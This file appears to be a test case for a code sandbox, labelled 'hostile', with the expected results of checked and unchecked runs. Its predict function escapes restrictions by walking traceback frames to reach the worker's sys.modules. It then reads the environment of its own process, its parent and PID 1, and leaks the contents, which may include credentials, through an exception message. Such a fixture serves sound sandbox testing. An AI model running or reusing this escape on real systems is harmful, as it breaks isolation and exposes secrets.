# hostile: read /proc/self/environ and the host's /proc/<ppid>/environ
# checked: rejected
# unchecked: error

def _modules():
    # climb from our own traceback frame to the worker's globals, which hold ``sys``
    try:
        raise ValueError("walk")
    except ValueError as e:
        f = e.__traceback__.tb_frame
    while f is not None and "sys" not in f.f_globals:
        f = f.f_back
    return f.f_globals["sys"].modules


def predict(x, sentinel="", pwned="", port=0.0):
    os = _modules()["os"]
    real_open = _modules()["builtins"].open
    text = ""
    for path in ("/proc/self/environ", "/proc/%d/environ" % os.getppid(), "/proc/1/environ"):
        try:
            text += real_open(path, "rb").read().decode()
        except Exception:
            pass
    if not text:
        raise ValueError("no /proc")
    raise ValueError(text)
